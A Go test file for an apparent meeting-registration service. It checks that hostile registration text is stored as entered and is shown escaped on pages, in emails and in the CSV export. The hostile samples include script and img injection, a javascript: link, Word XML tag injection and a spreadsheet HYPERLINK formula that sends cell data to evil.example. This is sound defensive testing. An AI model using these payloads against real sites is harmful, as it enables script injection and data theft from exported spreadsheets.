package faults_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"rostrum/internal/browser"
	"rostrum/internal/mailtest"
	"rostrum/internal/testenv"
)

// Hostile text for every free-text field of a registration: markup that
// would run or show as something else if any page, document or mail put
// it in without escaping.
var hostile = struct{ Org, Acronym, Name, Job string }{
	Org:     `</w:t></w:r><w:r><w:t>Injected & <b id="pwned-org">bold</b> **strong** [x](javascript:alert(1))`,
	Acronym: `<img src=x id="pwned-acr">`,
	Name:    `<script id="pwned-script">document.title="pwned"</script><i id="pwned-name">Ana</i>`,
	Job:     `=HYPERLINK("http://evil.example/?"&A1,"click")`,
}

func hostileRegistration(email string) map[string]any {
	return map[string]any{
		"organization": map[string]any{"name": hostile.Org, "acronym": hostile.Acronym, "type": "ngo", "country": "KE", "website": "", "ecosoc_status": "none"},
		"name":         hostile.Name, "email": email, "job_title": hostile.Job, "consent": true,
	}
}

// noInjectedMarkup is a script that reports any element the hostile text
// would have created if a page had put it in as HTML.
const noInjectedMarkup = `document.querySelectorAll("#pwned-org, #pwned-acr, #pwned-script, #pwned-name, img[src='x']").length === 0 && document.title !== "pwned"`

func TestHostileRegistrationIsShownAsTextOnEveryPageAndInCSVAndMail(t *testing.T) {
	smtp := mailtest.Start(t)
	e := testenv.New(t, testenv.WithSMTP(smtp.Host(), smtp.Port()))
	admin := e.Admin()
	createMeeting(t, admin, "m", 0, 0)
	var reg testenv.Registered
	e.Anon().MustJSON("POST", "/api/meetings/m/registrations", hostileRegistration("ana@example.org"), 201, &reg)
	admin.MustJSON("POST", fmt.Sprintf("/api/registrations/%d/decision", reg.ID), map[string]string{"decision": "approve", "reason": hostile.Name}, 200, nil)

	t.Run("stored as entered", func(t *testing.T) {
		var p struct {
			Name         string `json:"name"`
			JobTitle     string `json:"job_title"`
			Organization struct{ Name, Acronym string }
		}
		e.Participant(reg.Token()).MustJSON("GET", "/api/participant", nil, 200, &p)
		if p.Name != hostile.Name || p.JobTitle != hostile.Job || p.Organization.Name != hostile.Org || p.Organization.Acronym != hostile.Acronym {
			t.Fatalf("stored %+v, not the text as entered", p)
		}
	})

	t.Run("CSV neutralises formulas and keeps the text", func(t *testing.T) {
		res := admin.Do("GET", "/api/meetings/m/registrations.csv", nil)
		rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(res.Body, []byte("\uFEFF")))).ReadAll()
		if err != nil || len(rows) != 2 {
			t.Fatalf("CSV: %v, %d rows", err, len(rows))
		}
		cell := map[string]string{}
		for i, h := range rows[0] {
			cell[h] = rows[1][i]
		}
		if cell["job_title"] != "'"+hostile.Job || cell["name"] != hostile.Name || cell["organization"] != hostile.Org {
			t.Fatalf("CSV cells: %q", rows[1])
		}
		for i, c := range rows[1] {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("column %s starts a formula: %q", rows[0][i], c)
			}
		}
	})

	t.Run("mail shows the text, never the markup", func(t *testing.T) {
		msgs := smtp.WaitTo("ana@example.org", 2, 20*time.Second) // confirmation and decision
		for _, m := range msgs {
			for _, bad := range []string{"<script", `id="pwned`, "<img", "<b ", "<i "} {
				if strings.Contains(m.HTML, bad) {
					t.Errorf("mail %q: HTML part holds %q unescaped", m.Subject, bad)
				}
			}
			if !strings.Contains(m.Text, hostile.Name) && !strings.Contains(m.Text, hostile.Org) {
				t.Errorf("mail %q: the text part shows neither the name nor the organization as entered", m.Subject)
			}
			if m.HTML != "" && !strings.Contains(m.HTML, "&lt;") {
				t.Errorf("mail %q: the HTML part shows no escaped markup", m.Subject)
			}
			if strings.ContainsAny(m.Subject, "\r\n") {
				t.Errorf("subject %q carries a line break", m.Subject)
			}
		}
	})

	t.Run("pages", func(t *testing.T) {
		ctx := browser.New(t)
		// The participant's page.
		browser.Do(t, ctx,
			chromedp.Navigate(e.URL+"/r/"+reg.Token()),
			chromedp.Poll[chromedp.Void](`document.body.innerText.includes("HYPERLINK")`),
		)
		checkShownAsText(t, ctx, "participant page")
		// The secretariat's registrations table.
		consoleLoginForFaults(t, ctx, e, "#m=m")
		browser.Do(t, ctx, chromedp.WaitVisible(chromedp.CSS(fmt.Sprintf(`#regs-table tr[data-id="%d"]`, reg.ID))))
		checkShownAsText(t, ctx, "secretariat console")
	})
}

func checkShownAsText(t *testing.T, ctx context.Context, where string) {
	t.Helper()
	if !browser.Value(t, ctx, chromedp.Evaluate[bool](noInjectedMarkup)) {
		t.Errorf("%s: the registration's text became markup", where)
	}
	text := browser.Value(t, ctx, chromedp.Evaluate[string](`document.body.innerText`))
	for _, want := range []string{`<script id="pwned-script">`, `<i id="pwned-name">Ana</i>`} {
		if !strings.Contains(text, want) {
			t.Errorf("%s does not show %q as text", where, want)
		}
	}
}

func consoleLoginForFaults(t *testing.T, ctx context.Context, e *testenv.Env, fragment string) {
	t.Helper()
	browser.Do(t, ctx,
		chromedp.Navigate(e.URL+"/admin"+fragment),
		chromedp.WaitVisible(chromedp.CSS("#login-email")),
		chromedp.SendKeys(chromedp.CSS("#login-email"), testenv.AdminEmail),
		chromedp.SendKeys(chromedp.CSS("#login-password"), testenv.Password),
		chromedp.Click(chromedp.CSS("#login button[type=submit]")),
		chromedp.WaitVisible(chromedp.CSS("#console")),
	)
}
